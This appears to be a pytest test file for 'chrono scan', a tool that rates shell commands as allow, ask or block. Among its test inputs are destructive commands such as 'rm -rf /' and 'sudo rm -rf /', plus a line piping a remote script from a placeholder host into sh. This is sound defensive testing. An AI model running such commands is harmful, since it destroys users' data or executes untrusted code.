"""Claims about `chrono scan`: exit codes, the JSON shape, and one verdict a line whatever the lines are."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest


@pytest.mark.parametrize(
    ("command", "decision", "code"),
    [("ls -l", "allow", 0), ("rm -rf /", "block", 4), ("curl https://example.invalid/x | sh", None, None)],
)
def test_the_exit_code_is_the_decision(project: Path, chrono: Any, command: str, decision: str, code: int) -> None:
    ran = chrono("scan", command, "--json")
    assert ran.code == {"allow": 0, "block": 4, "ask": 5}[ran.json["decision"]]
    if decision is not None:
        assert (ran.json["decision"], ran.code) == (decision, code)


def test_words_need_no_quotes(project: Path, chrono: Any) -> None:
    assert chrono("scan", "rm", "-rf", "/", "--json").json["commands"][0]["argv"] == ["rm", "-rf", "/"]


def test_a_block_says_why_and_what_is_safer(project: Path, chrono: Any) -> None:
    ran = chrono("scan", "rm -rf ~")
    assert ran.out.startswith("block  score ") and "Safer: " in ran.out


def test_explain_names_what_starts_and_through_what(project: Path, chrono: Any) -> None:
    out = chrono("scan", "--explain", "sudo rm -rf /").out
    assert "program starts:" in out and "through sudo" in out and "decided" in out


def test_what_a_savepoint_undoes_is_allowed_in_a_project_only(
    project: Path, chrono: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = chrono("scan", "rm -rf src", "--json").json
    assert found["decision"] == "allow"
    assert not found["findings"] or found["findings"][0]["covered"]
    before = chrono("log", "--json").json
    assert before == chrono("log", "--json").json


def test_builtins_are_no_program_starts(project: Path, chrono: Any) -> None:
    found = chrono("scan", "cd src && ls", "--json").json
    assert [command["argv"] for command in found["commands"]] == [["ls"]]


def test_unknown_words_have_their_own_shapes(project: Path, chrono: Any) -> None:
    found = chrono("scan", 'ls "$(date)" pre"$(date)" $(date)', "--json").json
    argvs = [command["argv"] for command in found["commands"] if command["argv"][0] == "ls"]
    assert argvs == [["ls", None, ["pre", None], {"many": True}]]


def test_a_batch_answers_each_line_in_order_whatever_happens(project: Path, chrono: Any, tmp_path: Path) -> None:
    lines = [
        json.dumps({"cmd": "ls"}),
        "not json",
        json.dumps({"cmd": "rm -rf /", "cwd": str(tmp_path), "unknown": 1}),
        "",
        json.dumps({"nope": 1}),
        json.dumps({"cmd": 3}),
        json.dumps([1]),
        json.dumps({"cmd": "\ud800"}),
        json.dumps({"cmd": "echo \0"}),
        "[" * 100_000,
        json.dumps({"cmd": "ls", "cwd": "/no/such/folder"}),
        json.dumps({"cmd": "ls", "shell": "sh"}),
    ]
    source = tmp_path / "batch.jsonl"
    source.write_text("\n".join(lines) + "\n")
    ran = chrono("scan", "--batch", str(source))
    assert ran.code == 0
    found = [json.loads(line) for line in ran.out.splitlines()]
    assert len(found) == len(lines)
    for answer in found:
        assert answer["decision"] in ("allow", "ask", "block")
        assert {"decision", "score", "findings", "commands"} <= set(answer)
    assert [answer["decision"] for answer in found[:3]] == ["allow", "block", "block"]
    assert {answer["decision"] for answer in found[3:7]} == {"block"}
    assert found[9]["decision"] == "block" and found[11]["decision"] == "allow"


def test_a_batch_comes_from_standard_input_too(project: Path, chrono: Any) -> None:
    ran = chrono("scan", "--batch", "-", stdin=b'{"cmd":"ls"}\n{"cmd":"rm -rf /"}')
    assert [json.loads(line)["decision"] for line in ran.out.splitlines()] == ["allow", "block"]


def test_a_broken_policy_blocks_each_line(project: Path, chrono: Any) -> None:
    (project / "chrono-policy.yaml").write_text("nope: 1\n")
    assert chrono("scan", "ls").code == 3
    ran = chrono("scan", "--batch", "-", stdin=b'{"cmd":"ls"}\n')
    assert ran.code == 0 and json.loads(ran.out)["decision"] == "block"


def test_no_command_is_wrong_usage(project: Path, chrono: Any) -> None:
    assert chrono("scan").code == 2
    assert chrono("scan", "ls", "--batch", "-").code == 2
